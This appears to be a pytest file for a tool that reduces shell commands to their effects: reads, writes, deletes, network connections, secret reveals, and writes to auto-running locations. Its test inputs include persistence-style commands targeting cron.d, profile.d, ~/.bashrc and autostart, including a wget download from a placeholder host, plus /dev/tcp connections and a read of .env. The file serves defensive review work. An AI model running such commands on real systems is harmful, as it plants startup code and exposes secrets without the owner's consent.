"""What commands read, write and delete, and whom they connect to, as their effects say it."""

from __future__ import annotations

import pytest

from quorum.domain.review.effects.reduction import reduce_command
from quorum.domain.review.effects.side_effect import EffectKind
from quorum.infrastructure.execution.shell.script import read_script


def _list_places(command: str, kind: EffectKind) -> set[str]:
    return {effect.place for effect in reduce_command(command, read_script) if effect.kind is kind}


@pytest.mark.parametrize(
    "command",
    [
        *("cat -n", "tail -f", "uniq -c", "od -c", "column -t", "less -N", "diff -w b", "cat -A", "pr -t"),
        *("head -n 3", "cut -d= -f2", "nl -b a", "fold -w 9", "xxd -l 9", "base64 -w 0", "sort -k 1"),
    ],
)
def test_an_option_without_a_value_hides_no_file_behind_it(command: str) -> None:
    assert "a.txt" in _list_places(f"{command} a.txt", EffectKind.READ)
    assert any(effect.kind is EffectKind.REVEAL for effect in reduce_command(f"{command} .env", read_script)), (
        command
    )


@pytest.mark.parametrize(
    ("command", "written"),
    [
        ("touch a", "a"),
        ("truncate -s 0 a", "a"),
        ("sed -n 'w a' b", "a"),
        ("sed 's/x/y/w a' b", "a"),
        ("awk '{print > \"a\"}' b", "a"),
        ('perl -e \'open(F, ">", "a"); print F 1\'', "a"),
        ("ruby -e 'File.write(\"a\", 1)'", "a"),
        ('node -e \'require("fs").writeFileSync("a", "")\'', "a"),
        ("split -l 1 b p_", "p_aa"),
        ("find . -fprint a", "a"),
        ("python3 -m json.tool b a", "a"),
        ("cp -t d b", "d/b"),
        ("script -q -c 'echo b' a", "a"),
        ("script -q -c 'echo b' -O a", "a"),
        ("script -qc 'echo b'", "typescript"),
        ("flock a echo b", "a"),
        ("flock -n a -c 'touch b'", "b"),
        ("ssh-keygen -t ed25519 -N '' -f a", "a"),
        ("ssh-keygen -t ed25519 -N '' -f a", "a.pub"),
        ("ssh-keygen -R host -f a", "a"),
        ("python3 -m zipfile -c a b", "a"),
        ("python3 -m tarfile -e b.tar a", "a/"),
        ("perl -i.bak -pe s/x/y/ a", "a.bak"),
        ("perl -pi.bak -e s/x/y/ a", "a"),
        ("sqlite3 b.db '.backup a'", "a"),
        ("sqlite3 b.db '.backup main a'", "a"),
        ("sqlite3 b.db \"vacuum into 'a'\"", "a"),
        ("sqlite3 b.db '.output a' 'select 1'", "a"),
        ("printf '.once a\\nselect 1;\\n' | sqlite3 b.db", "a"),
        ("echo b | xargs -I@ cp @ a", "a"),
        ("for f in b ~/.profile; do echo x >> $f; done", "~/.profile"),
        ("cat b > a.{x,y}", "a.{x,y}"),
        ("touch {a,b}.txt", "b.txt"),
        ("wget -P d https://h.example/a", "d/a"),
        ("curl -O https://h.example/a", "a"),
        ("git mv b a", "a"),
        ("git checkout HEAD~1 -- a", "a"),
        ("git archive -o a HEAD", "a"),
    ],
)
def test_a_file_is_written_by_whatever_words_say_so(command: str, written: str) -> None:
    assert written in _list_places(command, EffectKind.WRITE)


@pytest.mark.parametrize(
    ("command", "deleted"),
    [
        ("mv a b", "a"),
        ("find d -name '*.x' -delete", "d/*.x"),
        ("git rm a", "a"),
        ("gzip a", "a"),
        ("shred -u a", "a"),
        ("python3 -c \"import os; os.remove('a')\"", "a"),
        ("python3 -c \"from pathlib import Path; Path('a').unlink()\"", "a"),
        ("python3 -c \"import shutil; shutil.move('a', 'b')\"", "a"),
    ],
)
def test_a_file_is_gone_from_its_place(command: str, deleted: str) -> None:
    assert deleted in _list_places(command, EffectKind.DELETE)


@pytest.mark.parametrize(
    "command",
    [
        "curl https://h.example",
        "cat < /dev/tcp/h.example/80",
        "ssh h.example uptime",
        "python3 -c \"import urllib.request as u; u.urlopen('https://h.example')\"",
        "python3 -c \"import socket; socket.create_connection(('h.example', 80))\"",
        "node -e 'fetch(\"https://h.example\")'",
    ],
)
def test_another_machine_is_connected_to(command: str) -> None:
    assert _list_places(command, EffectKind.CONNECT)


@pytest.mark.parametrize("command", ["make", "sh run.sh", "./run.sh", "python3 -m tool", "npm test"])
def test_what_a_command_does_not_show_is_said_to_be_unknown(command: str) -> None:
    assert _list_places(command, EffectKind.UNKNOWN)


@pytest.mark.parametrize(
    "command",
    [
        "awk '{print > \"/etc/cron.d/x\"}' a",
        "sed -n 'w /etc/cron.d/x' a",
        "perl -e 'open(F, \">/etc/profile.d/x.sh\")'",
        'node -e \'require("fs").writeFileSync("/etc/hosts", "x")\'',
        "cp -t ~/.config/autostart x.desktop",
        "wget -P ~/.config/autostart https://h.example/x.desktop",
        "find . -fprint ~/.bashrc",
        "python3 -m json.tool a.json ~/.bashrc",
        "echo x | xargs -I@ cp @ ~/.bashrc",
    ],
)
def test_a_write_to_what_runs_by_itself_is_seen_there(command: str) -> None:
    kinds = {effect.kind for effect in reduce_command(command, read_script)}

    assert kinds & {EffectKind.PERSIST, EffectKind.ALTER}
